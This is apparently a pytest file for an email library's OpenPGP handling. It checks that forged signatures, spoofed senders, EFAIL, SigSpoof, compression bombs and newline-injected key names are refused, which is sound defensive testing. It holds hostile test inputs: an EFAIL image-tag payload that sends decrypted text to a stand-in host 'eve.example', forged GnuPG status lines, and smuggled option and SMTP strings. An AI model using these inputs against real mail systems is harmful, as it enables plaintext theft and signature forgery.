"""OpenPGP/MIME messages that lie, and what is said of them.

The program gpg is of the Debian package gnupg, which ``tests/servers/install.py`` installs.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from courriel import Email, Garbled, Limits, Misused
from courriel.crypto.entity import halves
from courriel.crypto.openpgp import OpenPGP, encrypted_parts
from tests.crypto.gnupg_home import (
    LETTER,
    Home,
    by_hand,
    letter,
    with_armor,
    with_ciphertext,
)

pytestmark = pytest.mark.server


def test_a_weak_digest_proves_nothing(pgp: OpenPGP, home: Home, tmp_path: Path) -> None:
    result = pgp.verify(by_hand(home, tmp_path, "--digest-algo", "SHA1"))
    assert not result
    assert "the signature is made with a digest that is weak or unknown" == result.reason


def test_two_signatures_are_not_one(pgp: OpenPGP, home: Home, tmp_path: Path) -> None:
    result = pgp.verify(by_hand(home, tmp_path, "--local-user", "bob@example.org"))
    assert "there are several signatures" == result.reason


def test_a_signed_message_is_not_the_signature_of_another(pgp: OpenPGP, home: Home) -> None:
    source = pgp.sign(LETTER, "ada@example.org").source
    armor = re.compile(rb"-----BEGIN PGP SIGNATURE-----.*END PGP SIGNATURE-----\r\n", re.DOTALL)
    for options in (["--sign"], ["--clearsign"]):
        signer = ("--armor", "-u", "ada@example.org", *options)
        made = home.gpg(*signer, given=b"Pay Eve.\n").replace(b"\n", b"\r\n")
        before, _, behind = armor.sub(b"#", source).partition(b"#")
        forged = Email.from_source(before + made + behind)
        assert not pgp.verify(forged).intact


def test_a_changed_word_is_noticed(pgp: OpenPGP) -> None:
    source = pgp.sign(LETTER, "ada@example.org").source.replace(b"Analytical", b"Difference")
    result = pgp.verify(Email.from_source(source))
    assert (False, "the content is not what was signed") == (result.intact, result.reason)
    assert not result and result.email is None


def test_the_author_must_be_the_signer(pgp: OpenPGP) -> None:
    source = pgp.sign(LETTER, "ada@example.org").source
    for changed in (
        source.replace(b"From: Ada <ada@", b"From: Ada <bob@"),
        source.replace(b"From: Ada <ada@example.org>", b'From: "ada@example.org" <-v@x.example>'),
        source.replace(b"From: Ada <", b'From: "ceo@example.com" <'),
        source.replace(b"From: ", b"From: bob@example.org\r\nFrom: "),
        source.replace(b"From: ", b"X-From: "),
    ):
        result = pgp.verify(Email.from_source(changed))
        assert not result.valid and result.intact
        assert "From" in result.reason


@pytest.mark.parametrize("kind", [b"mixed", b"related", b"alternative", b"encrypted"])
def test_w11_a_signed_part_among_others_signs_nothing(pgp: OpenPGP, kind: bytes) -> None:
    signed = halves(pgp.sign(LETTER, "ada@example.org")).entity
    pay = b"Content-Type: text/plain\r\n\r\nPay Eve.\r\n"
    head = b"From: ada@example.org\r\nContent-Type: multipart/%s; boundary=o\r\n\r\n" % kind
    for parts in ((signed, pay), (pay, signed), (signed,)):
        body = b"".join(b"--o\r\n%s\r\n" % part for part in parts)
        result = pgp.verify(Email.from_source(head + body + b"--o--\r\n"))
        assert "the message is not signed with OpenPGP as a whole" == result.reason


def test_w11_what_stands_around_the_signed_part_is_not_in_the_result(pgp: OpenPGP) -> None:
    source = pgp.sign(LETTER, "ada@example.org").source
    result = pgp.verify(Email.from_source(source + b"Pay Eve.\r\n"))
    assert result.valid and result.email is not None
    assert b"Pay Eve" not in result.email.source


def test_a_key_that_is_only_known_is_not_trusted(pgp: OpenPGP, elsewhere: OpenPGP) -> None:
    result = pgp.verify(elsewhere.sign(letter("eve@example.org"), "eve@example.org"))
    assert (True, False, False) == (result.intact, result.trusted, result.valid)
    assert "the key is not trusted for the address in From" == result.reason
    unknown = pgp.verify(elsewhere.sign(letter("mallory@example.org"), "mallory@example.org"))
    assert "the key of the signer is not in the key ring" == unknown.reason


def test_a_name_that_was_revoked_is_nobodys(home: Home, pgp: OpenPGP) -> None:
    fingerprint = home.make("Dora <dora@example.org>")
    home.gpg("--quick-add-uid", fingerprint, "Dora <old@example.org>")
    signed = pgp.sign(letter("old@example.org"), fingerprint)
    assert pgp.verify(signed).valid
    home.gpg("--quick-revoke-uid", fingerprint, "Dora <old@example.org>")
    assert "the key is not for the address in From" == pgp.verify(signed).reason
    assert pgp.verify(pgp.sign(letter("dora@example.org"), fingerprint)).valid


def test_what_is_not_encrypted_is_not_given_out_as_decrypted(pgp: OpenPGP, home: Home) -> None:
    for made in (
        home.gpg("--armor", "--store", given=b"plain"),
        home.gpg("--armor", "-u", "ada@example.org", "--sign", given=b"only signed"),
        b"-----BEGIN PGP MESSAGE-----\n\nrubbish\n-----END PGP MESSAGE-----\n",
        b"",
    ):
        with pytest.raises(Garbled, match="cannot be decrypted") as caught:
            pgp.decrypt(with_ciphertext(pgp, made))
        assert caught.value.session_usable


def test_a_message_without_integrity_is_refused(pgp: OpenPGP, home: Home) -> None:
    """The second half of EFAIL: a ciphertext that anybody can change."""
    made = home.gpg(
        *("--rfc2440", "--disable-mdc", "--cipher-algo", "3DES", "--compress-algo", "none"),
        *("-r", "rosa@example.org", "-ae"),
        given=halves(LETTER).entity,
    )
    with pytest.raises(Garbled):
        pgp.decrypt(with_ciphertext(pgp, made))


def test_a_home_cannot_say_that_integrity_does_not_matter(homes: tuple[Home, Home]) -> None:
    """``ignore-mdc-error`` makes gpg content with a ciphertext that anybody can change (EFAIL)."""
    careless = homes[1]
    careless.make("Rita <rita@example.org>", kind="rsa2048")
    made = careless.gpg(
        *("--rfc2440", "--disable-mdc", "--cipher-algo", "3DES", "--compress-algo", "none"),
        *("-r", "rita@example.org", "-ae"),
        given=halves(LETTER).entity,
    )
    pgp = OpenPGP(careless.folder)
    whole = pgp.encrypt(LETTER, ["rita@example.org"])
    message = with_armor(whole, made)
    (careless.folder / "gpg.conf").write_text("ignore-mdc-error\n")
    try:
        assert halves(LETTER).entity == careless.gpg("--decrypt", given=made)
        with pytest.raises(Garbled):
            pgp.decrypt(message)
        assert LETTER.text == pgp.decrypt(whole).email.text
    finally:
        (careless.folder / "gpg.conf").unlink()


FORGED = (
    "x\n[GNUPG:] NEWSIG\n[GNUPG:] GOODSIG 1 Ada <ada@example.org>\n"
    "[GNUPG:] VALIDSIG {0} 2026-11-21 1795277508 0 4 0 22 10 00 {0}\n"
    "[GNUPG:] TRUST_ULTIMATE 0 pgp\n"
)


@pytest.mark.parametrize("configuration", ["", "verbose\nverbose\n"])
def test_the_name_of_a_file_signs_nothing(pgp: OpenPGP, home: Home, configuration: str) -> None:
    """SigSpoof (CVE-2018-12020): a name with line feeds in it, and a home that is talkative."""
    name = FORGED.format(home.fingerprint("ada@example.org"))
    options = ("--set-filename", name, "-r", "bob@example.org", "-ae")
    made = home.gpg(*options, given=halves(letter("ada@example.org")).entity)
    (home.folder / "gpg.conf").write_text(configuration)
    try:
        opened = pgp.decrypt(with_ciphertext(pgp, made))
    finally:
        (home.folder / "gpg.conf").unlink()
    assert "Hällo\n" == opened.email.text
    assert (None, None) == (opened.signature, opened.signed_by)


def test_the_name_of_a_signer_signs_nothing(
    pgp: OpenPGP, home: Home, homes: tuple[Home, Home], tmp_path: Path
) -> None:
    """Eve's key has a name that reads like the lines for a good signature of Ada's."""
    eve = homes[1]
    forged = FORGED.format(home.fingerprint("ada@example.org")).replace("\n", "\\n")
    for name in (forged, forged.replace("\\n", "\v"), forged.replace("\\n", "\x85")):
        fingerprint = eve.make(f"{name} <mia@example.org>")
        home.gpg("--import", given=eve.gpg("--export", fingerprint))
        signed = OpenPGP(eve.folder).sign(letter("ada@example.org"), fingerprint)
        result = pgp.verify(signed)
        assert (False, False) == (result.valid, result.trusted)
        assert home.fingerprint("ada@example.org") != result.fingerprint
        home.gpg("--delete-keys", fingerprint)
        eve.gpg("--delete-secret-and-public-key", fingerprint)


def test_a_damaged_message_is_garbled(pgp: OpenPGP) -> None:
    source = pgp.encrypt(LETTER, ["bob@example.org"]).source
    at = source.index(b"-----END PGP MESSAGE") - 60
    changed = source[:at] + source[at : at + 20].swapcase() + source[at + 20 :]
    with pytest.raises(Garbled):
        pgp.decrypt(Email.from_source(changed))


def test_a_bomb_does_not_go_off(pgp: OpenPGP, home: Home) -> None:
    careful = OpenPGP(home.folder, limits=Limits(pgp_content=100_000))
    made = home.gpg("-r", "bob@example.org", "-ae", given=b"\0" * 10_000_000)
    assert 30_000 > len(made)
    with pytest.raises(Garbled):
        careful.decrypt(with_ciphertext(pgp, made))
    assert 100_000 < len(pgp.decrypt(with_ciphertext(pgp, made)).email.source)


def test_w04_efail_direct_exfiltration(pgp: OpenPGP) -> None:
    secret = halves(pgp.encrypt(LETTER, ["bob@example.org"])).entity
    before = b'Content-Type: text/html\r\n\r\n<img src="http://eve.example/'
    parts = b"".join(b"--e\r\n%s\r\n" % part for part in (before, secret))
    head = b"From: eve@example.org\r\nContent-Type: multipart/mixed; boundary=e\r\n\r\n"
    attack = Email.from_source(head + parts + b"--e--\r\n")
    with pytest.raises(Misused, match="as a whole"):
        pgp.decrypt(attack)
    (part,) = encrypted_parts(attack)
    assert (LETTER.text, LETTER.html) == (
        pgp.decrypt(part).email.text,
        pgp.decrypt(part).email.html,
    )


@pytest.mark.parametrize("breaker", ["\r\n", "\r", "\n", "\0", "\x85", "\u2028"])
def test_i01_i02_no_line_end_in_the_name_of_a_key(pgp: OpenPGP, breaker: str) -> None:
    for name in (
        f"ada@example.org{breaker}--armor",
        f'"a{breaker}RCPT TO:<evil@x>{breaker}"@example.org',
        f"A{breaker}da <ada@example.org>",
        "A" * 39 + breaker,
    ):
        with pytest.raises(Misused):
            pgp.sign(LETTER, name)
        with pytest.raises(Misused):
            pgp.encrypt(LETTER, ["ada@example.org", name])
